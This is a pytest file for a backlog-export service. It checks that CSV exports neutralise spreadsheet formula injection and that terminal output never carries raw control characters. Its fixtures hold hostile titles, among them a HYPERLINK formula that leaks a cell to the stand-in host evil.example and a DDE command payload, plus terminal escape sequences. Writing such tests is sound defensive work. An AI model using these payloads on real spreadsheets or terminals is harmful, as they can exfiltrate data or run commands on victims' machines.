"""Hole 7 (outputs): what the service writes is safe where it lands. A CSV cell cannot start a formula
in a spreadsheet (and the file opens as UTF-8 in Excel); a terminal never receives raw control
characters from generated text; the start line's IPv6 URL is bracketed."""

from __future__ import annotations

import asyncio
import csv
import io
import socket
import sys
from pathlib import Path

import pytest
import yaml

from outbox.records import NewItem
from outbox.store import Store
from service.cli import main
from service.export import to_csv
from tests.jobrows import OPTIONS
from vocab.vision import Vision

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]
ESCAPES = "Ünïcode — ok 😀 \x1b]0;owned\x07\x1b[2J done"


async def _seed(db: Path) -> str:
    """A finished job whose generated items carry formulas and terminal escapes in their text."""
    async with Store.open(db) as store:
        await store.create_job("job-1", Vision(title="Bikes \x1b[31mred", vision="v"), OPTIONS, {})
        items = [
            NewItem(id=f"e{n}", parent_id=None, kind="epic", level=0, position=n, title=t, body={})
            for n, t in enumerate([*HOSTILE_TITLES, ESCAPES])
        ]
        await store.stage_items("job-1", "call-1", items)
        await store.set_job_status("job-1", "completed", events=[])
    return "job-1"


@pytest.fixture
def seeded(tmp_path: Path) -> tuple[Path, str]:
    config = tmp_path / "settings.yaml"
    settings = {"database": {"path": str(tmp_path / "db.sqlite3")}, "azure_devops": {"target": "none"}}
    config.write_text(yaml.safe_dump(settings), encoding="utf-8")
    return config, asyncio.run(_seed(tmp_path / "db.sqlite3"))


def test_the_csv_injection_cell_opens_as_text(seeded: tuple[Path, str], tmp_path: Path) -> None:
    """Exported CSV (as written to a file for Excel): every cell that starts with = + - @, tab or CR is
    prefixed with ', so a spreadsheet shows it as text; the file starts with a UTF-8 BOM."""
    config, job_id = seeded
    out = tmp_path / "backlog.csv"
    assert main(["export", job_id, "--format", "csv", "--output", str(out), "--config", str(config)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    titles = [r["Title 1"] for r in rows]
    for hostile in HOSTILE_TITLES:
        assert "'" + hostile in titles
    assert not any(t[:1] in "=+-@\t\r" for t in titles if t)
    assert "Ünïcode — ok 😀" in raw.decode("utf-8-sig")


def test_csv_keeps_numbers_and_plain_text_as_they_are() -> None:
    """Only cells that could start a formula change: the header and ordinary text stay untouched."""
    text = to_csv([])
    assert text.startswith("\ufeffID,Work Item Type,Title 1")


@pytest.mark.parametrize("fmt", ["md", "csv", "json"])
def test_export_to_a_terminal_never_prints_control_characters(
    seeded: tuple[Path, str], capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    """``backlogd export`` to stdout writes escapes as visible text (\\x1b), never the raw bytes."""
    config, job_id = seeded
    capsys.readouterr()
    assert main(["export", job_id, "--format", fmt, "--config", str(config)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "owned" in out and "done" in out


def test_status_never_prints_control_characters(
    seeded: tuple[Path, str], capsys: pytest.CaptureFixture[str]
) -> None:
    """``backlogd status`` shows the job's title with its escape made visible."""
    config, _ = seeded
    capsys.readouterr()
    assert main(["status", "--config", str(config)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "Bikes \\x1b[31mred" in out


def _ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.mark.skipif(not _ipv6_loopback(), reason="no IPv6 loopback here")
async def test_the_start_line_brackets_an_ipv6_address(tmp_path: Path) -> None:
    """``backlogd serve`` on ::1 prints ``http://[::1]:PORT/``, a URL a browser can open."""
    config = tmp_path / "settings.yaml"
    settings = {
        "server": {"host": "::1", "port": 0},
        "database": {"path": str(tmp_path / "db.sqlite3")},
        "azure_devops": {"target": "none"},
        "logging": {"level": "warning"},
    }
    config.write_text(yaml.safe_dump(settings), encoding="utf-8")
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "web.main", "serve", "--config", str(config),
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, cwd=Path(__file__).parents[2],
    )  # fmt: skip
    try:
        assert proc.stdout is not None
        line = (await asyncio.wait_for(proc.stdout.readline(), 20)).decode()
        assert line.startswith("backlogd: serving on http://[::1]:"), line
    finally:
        proc.terminate()
        await proc.communicate()
